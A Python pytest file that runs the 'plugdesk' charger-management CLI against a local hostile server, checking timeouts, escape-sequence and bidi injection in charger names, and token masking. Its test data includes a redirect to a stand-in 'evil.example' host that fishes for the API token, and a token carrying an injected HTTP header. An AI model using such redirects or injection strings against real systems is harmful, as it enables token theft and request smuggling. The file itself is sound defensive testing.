"""The command line against a hostile server of our own (tests/hostile/server.py), as real
processes: `status --timeout` against silence, drips and long Retry-After waits (point 3),
escape sequences and fake lines in charger text (point 5), the token fished for through
redirects and echoed names (point 8), and tokens or ports that cannot be used (point 9)."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from typing import Any

import pytest

from tests.hostile.server import (
    HostileServer,
    charger,
    drip,
    json_reply,
    never_answer,
    page,
)

PYTHON = sys.executable
TOKEN = "41|plug-secret-token-0123456789abcdef"
START_UP = 6.0  # seconds a cold `python -m plugdesk` may take on a busy CI machine

# Every way charger text can attack a terminal: a colour and a screen clear, a fake
# second line that looks like our own output, NUL, a right-to-left override, C1 CSI.
HOSTILE_NAME = "CP\x1b[2J\x1b[31mEVIL\x1b[0m\nOK       CP0002: all fine\x00\u202egnp.exe"
HOSTILE_ERROR = "Ground\r\nPLUGDESK OK - 0 chargers\u2028fake\x9b31m\u2066x\u2069"
FORBIDDEN = ["\x1b", "\x00", "\r", "\u202e", "\u2028", "\x9b", "\u2066", "\u2069"]


def _env(**extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in ("PLUGDESK_TOKEN", "PLUGDESK_API_URL")}
    env.update(extra)
    return env


def plugdesk(
    *args: str, token: str | None = TOKEN, stdin: str | None = None, timeout: float = 60
) -> subprocess.CompletedProcess[str]:
    env = _env(PLUGDESK_TOKEN=token) if token is not None else _env()
    return subprocess.run(
        [PYTHON, "-m", "plugdesk", *args],
        capture_output=True,
        text=True,
        env=env,
        input=stdin,
        timeout=timeout,
    )


# -- 3. `status --timeout`: exit 3 in time, whatever the server does --------------------------


def _slow_servers(server: HostileServer) -> dict[str, Any]:
    return {
        "silent": never_answer(server.stopping),
        "drip": drip(server.stopping, every=1.0),
        "retry-after-59": json_reply(
            {"message": "Too Many Attempts."}, status=429, headers={"Retry-After": "59"}
        ),
    }


@pytest.mark.parametrize("kind", ["silent", "drip", "retry-after-59"])
def test_status_gives_up_at_its_timeout_with_exit_3(hostile: HostileServer, kind: str) -> None:
    hostile.route("chargers", _slow_servers(hostile)[kind])
    started = time.monotonic()
    result = plugdesk("status", "--api-url", hostile.base_url, "--timeout", "5")
    took = time.monotonic() - started
    assert result.returncode == 3, result.stderr
    assert took < 5 + START_UP, took  # before the fix: 83 s, forever, and 177 s
    assert result.stderr.startswith("plugdesk: Could not check the fleet: timed out after 5 s")
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    assert result.stdout == ""


def test_status_timeout_is_checked_as_a_number(hostile: HostileServer) -> None:
    result = plugdesk("status", "--api-url", hostile.base_url, "--timeout", "soon")
    assert result.returncode == 64
    assert "'soon' is not a number" in result.stderr
    assert hostile.seen == []


def test_export_timeout_stops_a_silent_server_and_writes_nothing(
    hostile: HostileServer, tmp_path: Any
) -> None:
    hostile.route("chargers", never_answer(hostile.stopping))
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "never.csv"
    started = time.monotonic()
    result = plugdesk(
        "export", "--all", "--api-url", hostile.base_url, "--timeout", "3", "-o", str(out)
    )
    assert result.returncode == 1, result.stderr
    assert time.monotonic() - started < 3 + START_UP
    assert "time allowed" in result.stderr and "nothing was exported" in result.stderr
    assert list(out.parent.iterdir()) == []


# -- 5. terminal escapes and fake lines in charger text -------------------------------------


def _hostile_fleet(server: HostileServer) -> None:
    faulted = charger(
        1,
        identity=HOSTILE_NAME,
        reference="Ref\x1b]0;pwned\x07",
        status="Faulted",
        error_code="OtherError",
        error_info=HOSTILE_ERROR,
    )
    server.route("chargers", json_reply(page([faulted, charger(2)], None)))


def test_status_lines_carry_no_control_or_bidi_characters(hostile: HostileServer) -> None:
    _hostile_fleet(hostile)
    result = plugdesk("status", "--api-url", hostile.base_url)
    assert result.returncode == 2, result.stderr
    out = result.stdout
    for char in FORBIDDEN:
        assert char not in out, repr(char)
    lines = out.splitlines()
    assert len(lines) == 2, lines  # one charger line, one summary: no fake lines
    assert lines[0].startswith("FAULT") and "EVIL" in lines[0] and "gnp.exe" in lines[0]
    assert lines[1].startswith("PLUGDESK FAULT - 2 chargers")


def test_status_json_keeps_the_text_exact_but_escaped(hostile: HostileServer) -> None:
    import json

    _hostile_fleet(hostile)
    result = plugdesk("status", "--api-url", hostile.base_url, "--json")
    assert result.returncode == 2
    for char in FORBIDDEN:
        assert char not in result.stdout
    rows = json.loads(result.stdout)["chargers"]
    assert rows[0]["identity"] == HOSTILE_NAME  # machine output: exact, JSON-escaped


def test_export_warnings_name_the_charger_without_its_escapes(
    hostile: HostileServer, tmp_path: Any
) -> None:
    absurd = {
        "id": 7,
        "charger_connector_id": 1,
        "meter_start": 0,
        "meter_stop": 10,
        "total_kwh": -1e300,
        "started_at": "2026-01-01T10:00:00Z",
        "stopped_at": "2026-01-01T11:00:00Z",
        "status": "finished",
    }
    hostile.route("chargers", json_reply(page([charger(1, identity=HOSTILE_NAME)], None)))
    uuid = charger(1)["uuid"]
    hostile.route(f"chargers/{uuid}/transactions", json_reply(page([absurd], None)))
    hostile.route(f"chargers/{uuid}", json_reply({"data": charger(1, identity=HOSTILE_NAME)}))
    out = tmp_path / "out.csv"
    result = plugdesk("export", "--all", "--api-url", hostile.base_url, "-o", str(out))
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("Exported 1 transaction ")
    warning = result.stderr.splitlines()
    assert len(warning) == 1, warning
    assert warning[0].startswith("Warning: Charger CP") and "left blank" in warning[0]
    assert "EVIL" in warning[0]
    for char in FORBIDDEN:
        assert char not in result.stderr


def test_login_greets_a_hostile_user_name_on_one_clean_line(hostile: HostileServer) -> None:
    name = "Eve\x1b[2J\nSigned in as admin\u202e"
    hostile.route("user", json_reply({"data": {"id": 1, "name": name, "email": "e@x.example"}}))
    result = plugdesk(
        "login", "--token-stdin", "--api-url", hostile.base_url, token=None, stdin=TOKEN + "\n"
    )
    # ESC gone, the rest of its sequence is plain text; each control run is one space.
    assert result.stdout.splitlines()[0] == (
        f"Signed in as Eve [2J Signed in as admin  on {hostile.base_url}."
    )
    for char in FORBIDDEN:
        assert char not in result.stdout + result.stderr


# -- 8. the token never printed -------------------------------------------------------------


def _redirect_with_token(server: HostileServer) -> None:
    steal = json_reply(b"", status=302, headers={"Location": f"https://evil.example/?t={TOKEN}"})
    for path in ("user", "chargers"):
        server.route(path, steal)


def test_no_command_prints_the_token_a_redirect_fishes_for(
    hostile: HostileServer, tmp_path: Any
) -> None:
    _redirect_with_token(hostile)
    url = hostile.base_url
    runs = {
        "status": plugdesk("status", "--api-url", url),
        "export": plugdesk("export", "--all", "--api-url", url, "-o", str(tmp_path / "x.csv")),
        "login": plugdesk(
            "login", "--token-stdin", "--api-url", url, token=None, stdin=TOKEN + "\n"
        ),
    }
    for command, result in runs.items():
        said = result.stdout + result.stderr
        assert result.returncode != 0, command
        assert "evil.example" in said, (command, said)  # the redirect is named ...
        assert TOKEN not in said and TOKEN[5:] not in said, (command, said)  # ... masked
    assert all(seen.path.startswith("/api/v3/") for seen in hostile.seen)


def test_a_server_echoing_the_token_as_names_gets_it_masked(hostile: HostileServer) -> None:
    hostile.route("user", json_reply({"data": {"id": 1, "name": TOKEN, "email": "e@x.example"}}))
    echoed = charger(1, identity=TOKEN, status="Faulted", error_info=f"token {TOKEN}")
    hostile.route("chargers", json_reply(page([echoed], None)))
    login = plugdesk(
        "login", "--token-stdin", "--api-url", hostile.base_url, token=None, stdin=TOKEN + "\n"
    )
    status = plugdesk("status", "--api-url", hostile.base_url)
    as_json = plugdesk("status", "--api-url", hostile.base_url, "--json")
    for result in (login, status, as_json):
        said = result.stdout + result.stderr
        assert TOKEN not in said, said
    assert "Signed in as 41|p…" in login.stdout
    assert status.returncode == 2 and "41|p…" in status.stdout


# -- 9. tokens and ports that cannot be used ------------------------------------------------


@pytest.mark.parametrize(
    ("token", "words"),
    [
        ("tökén-0123456789", "characters a token cannot have"),
        ("abc\r\nX-Evil: 1", "line break"),
    ],
)
def test_a_token_that_cannot_be_sent_is_one_sentence_and_no_request(
    hostile: HostileServer, token: str, words: str
) -> None:
    hostile.route("chargers", json_reply(page([charger(1)], None)))
    result = plugdesk("status", "--api-url", hostile.base_url, token=token)
    assert result.returncode == 3
    assert words in result.stderr and "'ascii' codec" not in result.stderr
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    assert hostile.seen == []  # refused before any request, never retried


def test_port_out_of_range_is_a_usage_error_sentence() -> None:
    result = plugdesk("status", "--api-url", "http://127.0.0.1:99999/api/v3")
    assert result.returncode == 64
    assert result.stderr == (
        "plugdesk: --api-url: The port in the API URL must be between 1 and 65535, not 99999.\n"
    )


# -- 6. impossible dates: the commands still work, the chargers still listed ----------------


@pytest.mark.parametrize("zone", ["Etc/GMT+12", "Etc/GMT-14"])
def test_status_and_export_survive_year_1_and_9999(
    hostile: HostileServer, tmp_path: Any, zone: str
) -> None:
    from tests.hostile.test_numbers_and_dates import IMPOSSIBLE, _serve_impossible_dates

    _serve_impossible_dates(hostile)
    env = {"TZ": zone}
    status = _with_env(env, "status", "--api-url", hostile.base_url)
    assert status.returncode in (0, 1, 2), status.stderr  # judged, not a crash (exit 70)
    assert "PLUGDESK" in status.stdout and f"{len(IMPOSSIBLE)} chargers" in status.stdout
    out = tmp_path / "dates.csv"
    export = _with_env(
        env, "export", "--all", "--tz", "local", "--api-url", hostile.base_url, "-o", str(out)
    )
    assert export.returncode == 0, export.stderr
    assert export.stdout.startswith(f"Exported {len(IMPOSSIBLE) ** 2} transactions")


def _with_env(extra: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [PYTHON, "-m", "plugdesk", *args],
        capture_output=True,
        text=True,
        env=_env(PLUGDESK_TOKEN=TOKEN, **extra),
        timeout=60,
    )
